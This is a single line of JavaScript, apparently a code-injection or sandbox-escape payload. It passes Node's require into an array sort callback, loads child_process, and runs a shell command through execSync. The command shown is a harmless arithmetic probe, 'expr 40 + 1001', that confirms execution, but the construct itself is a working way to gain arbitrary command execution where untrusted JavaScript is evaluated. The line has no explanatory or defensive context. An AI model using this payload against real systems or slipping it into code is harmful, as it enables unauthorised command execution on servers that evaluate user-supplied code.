[require,1].sort((a,b)=>{ [a,b].forEach(f=>typeof f=='function'&&f('child_process').execSync('expr 40 + 1001',{stdio:'inherit'})); return 0});
